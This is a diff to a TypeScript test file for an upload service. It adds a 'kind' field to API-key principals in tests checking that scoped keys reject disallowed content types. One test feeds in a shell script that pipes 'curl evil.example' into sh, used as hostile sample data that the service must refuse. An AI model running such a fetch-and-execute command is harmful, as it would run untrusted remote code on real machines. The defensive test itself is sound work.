@@ -22,7 +22,7 @@ import { HTML, PNG } from "./helpers/fixtures.js";
 import { filesUnder } from "./helpers/server.js";
 import { bodyOf, makeServices, type Harness } from "./helpers/services.js";
 
-const principal: Principal = { keyId: "test" };
+const principal: Principal = { kind: "key", keyId: "test" };
 const open: Harness[] = [];
 afterEach(async () => {
   for (const h of open.splice(0)) await h.close();
@@ -457,7 +457,7 @@ describe("content checks, end to end", () => {
   it("a key scoped to image/* cannot archive a script declared as an image type nobody can detect", async () => {
     const h = await harness();
     const { record: key } = await createApiKey(h.services.metadata, { name: "images", now: Date.now(), scope: { allowedTypes: ["image/*"] } });
-    const scoped: Principal = { keyId: key.id, scope: key.scope ?? undefined };
+    const scoped: Principal = { kind: "key", keyId: key.id, scope: key.scope ?? undefined };
     const record = await sendAndProcess(h, scoped, Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"), "image/x-foo");
     assert.equal(record.state, "rejected");
     assert.match(record.reason ?? "", /^type_not_allowed: image\/x-foo could not be identified .* for the key that issued this upload/);
@@ -470,7 +470,7 @@ describe("content checks, end to end", () => {
     const h = await harness();
     const { record: key } = await createApiKey(h.services.metadata, { name: "text", now: Date.now(), scope: { allowedTypes: ["text/plain"] } });
     // Issued as if by a key without a scope: only processing can hold the key to its list.
-    const record = await sendAndProcess(h, { keyId: key.id }, PNG, "application/octet-stream");
+    const record = await sendAndProcess(h, { kind: "key", keyId: key.id }, PNG, "application/octet-stream");
     assert.equal(record.state, "rejected");
     assert.match(record.reason ?? "", /^type_not_allowed: image\/png is not allowed for the key that issued this upload/);
     assert.deepEqual(await archiveOf(h), []);
